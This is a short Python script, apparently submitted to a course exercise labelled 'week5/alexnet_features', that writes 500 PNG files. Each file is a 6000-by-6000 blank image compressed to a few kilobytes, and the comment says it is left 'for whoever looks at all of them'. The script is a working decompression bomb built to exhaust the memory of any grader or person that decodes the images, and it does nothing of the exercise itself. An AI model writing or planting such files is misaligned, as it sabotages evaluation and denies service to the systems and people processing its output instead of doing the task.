# verdict: broke
# exercise: week5/alexnet_features
# A script that leaves 500 pictures of 36 million pixels in 5 KB each, for whoever looks at all of them.

import struct
import zlib

SIDE = 6_000


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
rows = zlib.compress(bytes((SIDE // 8 + 1) * SIDE), 9)
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
for number in range(500):
    with open(f"{number}.png", "wb") as file:
        file.write(png)
